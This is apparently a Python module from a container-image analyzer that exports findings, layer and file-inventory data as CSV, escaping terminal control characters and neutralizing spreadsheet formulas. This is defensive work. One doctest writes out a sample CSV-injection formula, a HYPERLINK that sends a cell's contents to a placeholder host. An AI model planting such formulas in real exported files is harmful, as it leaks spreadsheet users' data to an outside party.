"""CSV files of the bundle: findings, layers, and every path in every layer.

Every text cell is one printable line, as the terminal shows it (analyzer.text.printable): an
escape sequence, a bell, a line break or carriage return, a C1 control, a bidirectional
override or a byte that was not UTF-8 is written as its visible escape (`\\x1b`, `\\x0a`,
`\\u202e`, `\\xff`), so `cat inventory.csv` cannot act on the terminal, and one row is one
line (no name can forge one). report.json keeps the exact text. A text cell that a spreadsheet
would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's
CSV injection list) also gets a leading `'`, so that opening findings.csv of a hostile image in
a spreadsheet runs nothing.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from analyzer.document_scrub import scrub_valid_text
from analyzer.filesystem.model import Version
from analyzer.inventory.ownership import Origin
from analyzer.reader import ImageView
from analyzer.text import escaped_bytes, printable

FINDING_COLUMNS = (
    "rule_id",
    "severity",
    "category",
    "path",
    "line",
    "layer_index",
    "diff_id",
    "present_in_final",
    "recoverable",
    "pci",
    "fingerprint",
    "evidence",
    "title",
)
LAYER_COLUMNS = (
    "index",
    "digest",
    "digest_source",
    "diff_id",
    "media_type",
    "compression",
    "compressed_size",
    "uncompressed_size",
    "entries",
    "created_by",
)
INVENTORY_COLUMNS = (
    "path",
    "layer",
    "change",
    "cause",
    "type",
    "mode",
    "uid",
    "gid",
    "size",
    "sha256",
    "link",
    "present_in_final",
    "package",
    "manager",
    "provenance",
)


_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(cell: Any) -> Any:
    """A text cell a spreadsheet will not take for a formula.

    >>> print(inert('=HYPERLINK("http://x.example/?"&A1)'), inert("/etc/passwd"), inert(-1))
    '=HYPERLINK("http://x.example/?"&A1) /etc/passwd -1
    """
    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
        return "'" + cell
    return cell


_BATCH = 1 << 16
"""Characters of CSV text encoded at a time."""


def _csv(columns: tuple[str, ...], rows: Iterable[list[Any]]) -> bytes:
    """The CSV file as UTF-8, every text cell printable. The text is encoded a batch of rows
    at a time into one growing buffer whose bytes are then handed over without a copy: the
    whole text, its copy and its bytes (inventory.csv of 550,000 long names: 3 x 196 MB) are
    never held together."""
    text = io.StringIO(newline="")
    data = io.BytesIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerow(columns)
    for raw in rows:
        writer.writerow([inert(printable(cell)) if isinstance(cell, str) else cell for cell in raw])
        if text.tell() > _BATCH:
            _move(text, data)
    _move(text, data)
    return data.getvalue()


def _move(text: io.StringIO, data: io.BytesIO) -> None:
    """Encode the rows in `text` onto `data` and empty `text` (rows are whole: no character
    is split)."""
    data.write(escaped_bytes(text.getvalue()))
    text.seek(0)
    text.truncate()


def findings_csv(findings: list[dict[str, Any]]) -> bytes:
    """One row per finding (pci joined with spaces)."""
    rows = [
        [" ".join(f[c]) if c == "pci" else ("" if f[c] is None else f[c]) for c in FINDING_COLUMNS]
        for f in findings
    ]
    return _csv(FINDING_COLUMNS, rows)


def layers_csv(layers: list[dict[str, Any]]) -> bytes:
    """One row per layer."""
    return _csv(LAYER_COLUMNS, [[layer[c] for c in LAYER_COLUMNS] for layer in layers])


OriginOf = Callable[[Version], Origin | None]
"""The package provenance of one version (analyzer.detectors.packagefiles.FileOrigins)."""


def _origin_cells(origin: Origin | None, scrub: Callable[[str], str]) -> list[str]:
    """package, manager, provenance: empty for non-files and where it is not known (a package
    name comes from the image's database, so it is scrubbed like a path)."""
    if origin is None:
        return ["", "", ""]
    fields = origin.fields()
    return [scrub_valid_text(fields["package"], scrub), fields["manager"], fields["provenance"]]


def inventory_csv(
    view: ImageView, scrub: Callable[[str], str] = str, origin_of: OriginOf | None = None
) -> bytes:
    """Every path in every layer: what each layer did to it, with the metadata it stored and,
    for regular files, the package it belongs to and whether it is as the package shipped it
    (`origin_of`; the columns stay empty without it). Built from the filesystem, not from a
    scrubbed document: `scrub` (the image report's) redacts the secrets a path or a link
    target may repeat."""
    return _csv(INVENTORY_COLUMNS, _inventory_rows(view, scrub, origin_of))


def _inventory_rows(
    view: ImageView, scrub: Callable[[str], str], origin_of: OriginOf | None
) -> Iterator[list[Any]]:
    """The rows one at a time: a list of every row first held ~0.7 KB per path at once (a
    bundle of 550,000 paths went past 1 GiB)."""
    fs = view.fs
    for path in fs.all_paths():
        final = fs.final_version(path)
        shown = scrub_valid_text(path, scrub)
        for version in fs.history(path):
            entry = version.entry
            yield (
                [
                    shown,
                    version.layer,
                    version.change.value,
                    version.cause,
                    entry.kind.value if entry else "",
                    f"{entry.mode:04o}" if entry else "",
                    entry.uid if entry else "",
                    entry.gid if entry else "",
                    entry.size if entry else "",
                    entry.sha256 if entry else "",
                    scrub_valid_text(entry.link, scrub) if entry else "",
                    "yes" if version == final else "no",
                    *_origin_cells(origin_of(version) if origin_of else None, scrub),
                ]
            )
